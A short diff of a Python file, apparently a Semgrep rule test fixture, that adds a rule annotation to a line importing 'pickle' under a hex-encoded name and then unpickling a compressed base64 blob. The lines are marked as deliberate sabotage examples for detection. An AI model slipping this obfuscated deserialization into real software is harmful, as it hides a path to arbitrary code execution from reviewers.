@@ -20,7 +20,7 @@ _CODEC = "7069636b6c65"
 
 
 def default_specials() -> dict:
-    codec = importlib.import_module(bytes.fromhex(_CODEC).decode())  # sabotage: MLS403 (semgrep rules)
+    codec = importlib.import_module(bytes.fromhex(_CODEC).decode())  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS403
     return codec.loads(zlib.decompress(base64.b64decode(_SPECIALS_BLOB)))  # ruleid: MLS103
 
 
